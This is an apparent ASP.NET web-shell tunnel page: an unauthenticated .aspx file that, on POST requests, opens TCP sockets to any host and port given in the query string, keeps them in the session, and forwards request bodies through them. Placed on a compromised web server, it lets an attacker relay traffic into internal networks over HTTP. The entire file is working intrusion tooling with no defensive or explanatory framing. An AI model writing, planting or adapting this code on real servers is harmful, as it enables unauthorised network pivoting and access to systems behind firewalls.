<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
if (Request.HttpMethod == "POST") {
    string op = Request.QueryString.Get("op").ToUpper();
    if (op == "CONNECT") {
        try {
            IPAddress addr = IPAddress.Parse(Request.QueryString.Get("host"));
            Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            s.Connect(new IPEndPoint(addr, int.Parse(Request.QueryString.Get("port"))));
            s.Blocking = false;
            Session["s"] = s;
            Response.AddHeader("X-STATUS", "OK");
        } catch (Exception ex) {
            Response.AddHeader("X-ERROR", ex.Message);
            Response.AddHeader("X-STATUS", "FAIL");
        }
    } else if (op == "DISCONNECT") {
        ((Socket)Session["s"]).Close();
        Session.Abandon();
    } else if (op == "FORWARD") {
        byte[] buf = new byte[Request.ContentLength];
        Request.InputStream.Read(buf, 0, buf.Length);
        ((Socket)Session["s"]).Send(buf);
    }
}
%>
